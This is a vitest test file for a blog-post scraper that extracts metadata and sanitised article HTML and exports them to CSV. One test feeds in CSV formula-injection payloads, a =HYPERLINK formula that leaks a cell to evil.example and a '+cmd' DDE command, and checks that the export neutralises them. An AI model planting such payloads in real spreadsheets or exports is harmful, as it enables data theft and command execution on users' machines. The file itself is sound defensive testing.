import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { hasControlCharacters } from "#app/lib/control-characters.ts";
import { parseCsv } from "#app/lib/csv.ts";
import { scrapedPostsToCsv, validateImportRow } from "#app/lib/post-import-columns.ts";
import { extractPost } from "./article-extraction.ts";

const fixture = (name: string) => readFileSync(new URL(`../../tests/fixtures/scrape/${name}.html`, import.meta.url), "utf8");

describe("extractPost: every extraction rule", () => {
  it("reads Open Graph and article meta tags, and the article body", () => {
    const post = extractPost(fixture("wordpress-article"), "https://lakesideliving.example/blog/best-boat-ramps-lake-norman/");
    expect(post).toMatchObject({
      title: "The Best Public Boat Ramps on Lake Norman",
      slug: "best-boat-ramps-lake-norman",
      excerpt: "Five public boat ramps on Lake Norman, with parking, fees and the best times to launch.",
      hero_image_url: "https://lakesideliving.example/wp-content/uploads/2025/04/boat-ramp.jpg",
      categories: ["Boating & Water Sports", "Local Events"],
      tags: ["boating", "Lake Norman"],
      author_name: "Jordan Ellis",
      published_at: "2025-04-18T12:30:00.000Z",
      seo_title: "Best Boat Ramps on Lake Norman | Lakeside Living Blog",
      seo_description: "Five public boat ramps on Lake Norman, with parking, fees and the best times to launch.",
      canonical_url: "https://lakesideliving.example/blog/best-boat-ramps-lake-norman/",
      featured: false,
    });
  });

  it("drops control characters from every text it takes, and keeps formula-like text for the CSV to neutralise (issue 13)", () => {
    const post = extractPost(fixture("hostile-article"), "https://lakesideliving.example/blog/hostile-article/");
    expect(post).toMatchObject({
      title: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      excerpt: "+cmd|' /C calc'!A0 and a bell in the excerpt",
      author_name: "@Jordan Ellis",
      categories: ["-Boating"],
      tags: ["'quoted tag"],
    });
    expect(post.content_html).toContain("control characters into the CSV");
    expect(post.content_html).toContain("a backspace and an escape that");
    for (const [field, value] of Object.entries(post)) {
      const texts = typeof value === "string" ? [value] : Array.isArray(value) ? value : [];
      for (const text of texts) expect(hasControlCharacters(text, { multiline: field === "content_html" }), field).toBe(false);
    }
    const csv = scrapedPostsToCsv([post]);
    const [line] = csv.split("\r\n").slice(1);
    for (const cell of ["\"'=HYPERLINK(", `,"'@Jordan Ellis",`, `,"'-Boating",`, `,"'+cmd|' /C calc'!A0`]) expect(line).toContain(cell);
    const [row] = parseCsv(csv).rows;
    const imported = validateImportRow(row ?? {}, 1, { now: new Date(), agentName: "Meredith Vance" });
    expect(imported.errors).toEqual([]);
    expect(imported.data).toMatchObject({
      title: post.title,
      excerpt: post.excerpt,
      authorName: "@Jordan Ellis",
      categories: ["-Boating"],
      tags: ["'quoted tag"],
    });
  });

  it("keeps only the sanitised article body, with absolute links and images", () => {
    const { content_html: content } = extractPost(fixture("wordpress-article"), "https://lakesideliving.example/blog/best-boat-ramps-lake-norman/");
    expect(content).toContain("<p>Lake Norman has more than thirty public access areas");
    expect(content).toContain("<h2>Blythe Landing</h2>");
    expect(content).toContain('<a href="https://lakesideliving.example/blog/huntersville-guide/">Blythe Landing</a>');
    expect(content).toContain('<a href="https://www.mecknc.gov/parks">county park</a>');
    expect(content).toContain('<img src="https://lakesideliving.example/wp-content/uploads/2025/04/blythe.jpg" alt="Blythe Landing ramp">');
    expect(content).toContain('<img src="https://lakesideliving.example/uploads/lazy.jpg" alt="Lazy loaded">');
    expect(content).toContain("<a>Click me</a>");
    for (const absent of [
      "<script",
      "alert",
      "onerror",
      "srcset",
      "Share on Facebook",
      "Great post",
      "Posted in Boating",
      "Home",
      "<h1",
      "By Jordan Ellis",
      "not content",
    ]) {
      expect(content).not.toContain(absent);
    }
  });

  it("falls back to JSON-LD for categories, keywords, author, date and image, and to [itemprop=articleBody]", () => {
    const post = extractPost(fixture("jsonld-article"), "https://journal.example/posts/davidson-market-report-spring-2025");
    expect(post).toMatchObject({
      title: "Davidson Market Report: Spring 2025",
      slug: "davidson-market-report-spring-2025",
      excerpt: "Prices, days on market and inventory for Davidson, NC this spring.",
      hero_image_url: "https://cdn.journal.example/davidson.jpg",
      categories: ["Market Insights"],
      tags: ["Davidson", "market report", "prices"],
      author_name: "Priya Raman",
      published_at: "2025-05-02T14:00:00.000Z",
      seo_title: "Davidson Market Report, Spring 2025",
      canonical_url: "",
    });
    expect(post.content_html).toBe(
      "<p>Davidson's median sale price rose 6% over last spring, while homes spent a median of 19 days on the market before going under contract.</p>\n" +
        "<p>Inventory remains tight in the town's walkable core; most new listings sold within the first weekend.</p>\n" +
        "<ul><li>Median price: $785,000</li><li>Days on market: 19</li></ul>",
    );
  });

  it("uses the h1, <time datetime>, og:url and the largest block of text when nothing better exists", () => {
    const post = extractPost(fixture("plain-page"), "http://notes.example/archive/where-to-eat.html");
    expect(post).toMatchObject({
      title: "Where to Eat in Mooresville",
      slug: "where-to-eat",
      published_at: "2024-11-09T23:00:00.000Z",
      canonical_url: "http://notes.example/archive/where-to-eat.html",
      excerpt: "",
      author_name: "",
      categories: [],
    });
    expect(post.content_html.match(/<p>/g)).toHaveLength(3);
    expect(post.content_html).not.toContain("Posted");
    expect(post.content_html).not.toContain("Short.");
  });

  it("uses <title> when there is no og:title or h1, and the title for the slug of a bare address", () => {
    const post = extractPost(fixture("title-only"), "https://weekend.example/");
    expect(post.title).toBe("Troutman Weekend Ideas");
    expect(post.slug).toBe("troutman-weekend-ideas");
    expect(post.content_html).toContain("farmers market");
  });
});
